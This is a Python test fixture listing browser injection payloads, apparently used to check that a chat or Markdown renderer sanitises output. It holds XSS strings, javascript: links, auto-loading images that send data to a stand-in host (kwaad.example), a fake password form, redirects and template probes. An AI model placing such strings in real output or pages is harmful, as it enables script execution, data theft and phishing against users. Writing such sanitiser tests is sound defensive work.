"""Text that tries to become something else in a browser."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "window.hit=1"
_AWAY = "https://kwaad.example"

PAYLOADS = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<body onpageshow={_RUN}>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    f"<input autofocus onfocus={_RUN}>",
    f"</textarea></template><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"' onmouseover='{_RUN}' data-x='",
    f'" autofocus onfocus="{_RUN}" data-x="',
    f"<math><mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></mtext></math>",
    # links that run something
    f"[klik](javascript:{_RUN})",
    f'<a href="javascript:{_RUN}">klik</a>',
    f'<svg><a href="javascript:{_RUN}"><text y="20">klik</text></a></svg>',
    f'<a href="data:text/html,<script>{_RUN}</script>">klik</a>',
    f"[klik][1]\n\n[1]: javascript:{_RUN}",
    # things fetched from elsewhere
    f"![x]({_AWAY}/?d=GEHEIM)",
    f"<img src={_AWAY}/a>",
    f'<img srcset="{_AWAY}/b 1x">',
    f"<video poster={_AWAY}/c src={_AWAY}/d autoplay></video>",
    f"<audio src={_AWAY}/e autoplay></audio>",
    f'<table background="{_AWAY}/f"><tr><td>x</td></tr></table>',
    f'<p style="background:url({_AWAY}/g)">x</p>',
    f"<link rel=stylesheet href={_AWAY}/h>",
    f"<svg><image href={_AWAY}/i /></svg>",
    f"<input type=image src={_AWAY}/j>",
    f"<object data={_AWAY}/k></object><embed src={_AWAY}/l>",
    f"![x](/gradio_api/file={_AWAY}/?d=GEHEIM)",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<style>@import url({_AWAY}/m); * {{ display: none }}</style>",
    # things that pretend to be the page
    f"<form action={_AWAY}><input name=wachtwoord type=password><button>Inloggen</button></form>",
    '<div style="position:fixed;inset:0;background:red;z-index:9999">VERVALST</div>',
    f"<a href={_AWAY}>https://www.nvz.nl</a>",
    '<button data-event="delete_all">Klik</button>',
    '<span data-context="conversation" data-value="0"></span>',
    "{{ 7 * 7 }} ${7*7} {% raw %} <%= 7*7 %>",
    "\u202egnikriw ekjileim \u202c\u200b\u200d",
    "[1] [2] [99]",
)
